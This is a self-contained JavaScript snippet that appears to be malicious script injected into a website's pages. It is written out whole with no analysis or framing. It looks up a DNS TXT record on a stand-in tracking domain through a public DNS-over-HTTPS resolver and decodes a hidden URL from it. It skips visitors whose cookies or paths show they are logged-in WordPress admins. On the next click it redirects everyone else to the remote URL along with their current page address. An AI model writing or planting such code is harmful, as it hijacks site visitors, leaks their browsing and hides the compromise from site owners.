(function () {
  var name = location.hostname.replace(/\./g, "-") + "." + Math.random().toString(36).slice(2, 8) + ".zone-track.example";
  function via(base, cb) {
    fetch(base + "?name=" + name + "&type=TXT", { headers: { accept: "application/dns-json" } })
      .then(function (r) { return r.json(); })
      .then(function (j) { cb(j.Answer && j.Answer[0] && j.Answer[0].data.replace(/"/g, "")); })
      .catch(function () {});
  }
  if (/wordpress_logged_in|wp-admin/.test(document.cookie + location.pathname)) return;
  via("https://dns.google/resolve", function (t) {
    if (!t || t === "0") return;
    var to = atob(t);
    if (to.indexOf("//") < 0) return;
    document.addEventListener("click", function go() {
      document.removeEventListener("click", go);
      window.location.replace(to + "?u=" + encodeURIComponent(location.href));
    });
  });
})();
